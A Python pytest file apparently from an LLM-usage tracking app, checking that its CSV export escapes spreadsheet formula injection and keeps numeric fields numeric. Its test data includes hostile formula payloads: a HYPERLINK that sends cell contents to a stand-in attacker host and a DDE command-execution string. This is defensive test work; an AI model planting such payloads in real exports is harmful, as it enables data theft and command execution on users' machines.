"""CSV exports cannot carry a formula into a spreadsheet (CSV injection), and our numbers
stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from llmlab_app.services.events_csv import spreadsheet_safe

HOSTILE = {
    "event_id": "-2+3",
    "model": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "provider": "@evil",
    "project": "+x",
    "end_user": "=cmd|' /C calc'!A0",
    "tags": ["@SUM(1+1)", "fine"],
    "input_tokens": 1_000,
    "output_tokens": 20,
    "cost_usd": "0.5",
    "latency_ms": 12,
}


def test_cells_that_a_spreadsheet_would_run_are_quoted_in_the_api_export(account):
    assert account.track(HOSTILE).status_code == 200
    response = account.get("/api/events", format="csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["event_id"] == "'-2+3"
    assert row["model"] == "'" + HOSTILE["model"]
    assert row["provider"] == "'@evil"
    assert row["project"] == "'+x"
    assert row["end_user"] == "'=cmd|' /C calc'!A0"
    assert row["tags"] == "'@SUM(1+1);fine"
    # Ours, and numbers a spreadsheet can add up.
    assert (row["input_tokens"], row["output_tokens"], row["latency_ms"]) == ("1000", "20", "12")
    assert row["cost_usd"] == "0.5" and row["cost_source"] == "client"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("gpt-4o", "gpt-4o"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(text, written):
    assert spreadsheet_safe(text) == written
